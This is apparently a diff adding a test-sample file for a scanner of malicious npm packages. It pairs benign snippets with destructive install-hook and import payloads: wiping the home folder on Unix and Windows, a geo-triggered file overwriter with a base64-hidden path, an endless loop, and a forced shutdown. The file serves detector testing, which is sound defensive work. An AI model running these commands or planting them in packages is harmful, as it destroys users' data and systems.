@@ -1,0 +1,65 @@
+import type { Samples } from '../contract.ts';
+import { at, HOOK_LINE, hide, hooked, imported, installed, quiet } from '../samples-kit.ts';
+
+export const samples: Samples = {
+  malicious: [
+    {
+      name: 'the home folder from the shell',
+      files: hooked('rm -rf "$HOME"/*'),
+      expected: [at('wipe', 'critical', 'package.json', HOOK_LINE)],
+    },
+    {
+      name: 'the home folder by code',
+      files: installed(
+        `const fs = require('fs');\nfs.rmSync(require('os').homedir(), { recursive: true, force: true });\n`,
+      ),
+      expected: [at('wipe', 'critical', 'setup.js', 2)],
+    },
+    {
+      name: "Windows' way, by a started command",
+      files: imported(`require('child_process').exec('del /F /Q /S "%USERPROFILE%\\\\*"');\n`),
+      expected: [at('wipe', 'critical', 'index.js', 1)],
+    },
+    {
+      name: 'overwritten where the machine stands in a certain place',
+      files: imported(
+        `const fs = require('fs'), https = require('https');\nfunction work(dir) {\n  for (const name of fs.readdirSync(dir)) fs.writeFile(dir + name, 'x', () => {});\n}\nhttps.get('https://geo.weir.test/?key=country_name', (res) => res.on('data', (d) => {\n  if (String(JSON.parse(d)['country_name']).includes('x')) { work('../../'); work(Buffer.from('${hide('/')}', 'base64').toString()); }\n}));\n`,
+      ),
+      expected: [at('overwrite', 'high', 'index.js', 3)],
+    },
+    {
+      name: 'a loop without an end',
+      files: imported(
+        `let i = 666;\nfor (; i < Infinity; i++) {\n  if (i % 333) continue;\n  console.log('x');\n}\n`,
+      ),
+      expected: [at('hang', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'the machine switched off',
+      files: installed(`require('child_process').execSync('sudo shutdown -h now');\n`),
+      expected: [at('shutdown', 'high', 'setup.js', 1)],
+    },
+  ],
+  benign: [
+    quiet('its own build folder', hooked('rm -rf ./dist build/*')),
+    quiet(
+      'a temporary folder',
+      installed(
+        `const fs = require('fs'), os = require('os'), path = require('path');\nfs.rmSync(path.join(os.tmpdir(), 'x'), { recursive: true });\n`,
+      ),
+    ),
+    quiet(
+      'a loop that ends',
+      imported(
+        `let n = 0;\nwhile (true) {\n  if (n++ > 3) break;\n}\nexports.run = function* () { for (;;) yield 1; };\n`,
+      ),
+    ),
+    quiet('a server that waits when called', imported(`exports.spin = () => { while (true) {} };\n`)),
+    quiet(
+      'a formatter that rewrites files',
+      imported(
+        `const fs = require('fs');\nexports.format = (dir) => fs.readdirSync(dir).forEach((name) => fs.writeFileSync(dir + '/' + name, fs.readFileSync(dir + '/' + name)));\n`,
+      ),
+    ),
+  ],
+};
